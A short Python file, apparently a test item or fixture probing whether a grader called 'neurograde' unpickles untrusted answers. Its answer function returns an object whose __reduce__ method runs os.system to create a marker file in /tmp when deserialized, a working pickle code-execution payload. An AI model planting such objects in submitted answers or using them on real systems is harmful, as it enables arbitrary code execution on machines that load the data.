"""Answer with an object that runs code where it is unpickled.

Outcome: Z, N. Reply: unsendable
"""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/neurograde-planted",)


def answer(target):
    return Bomb()
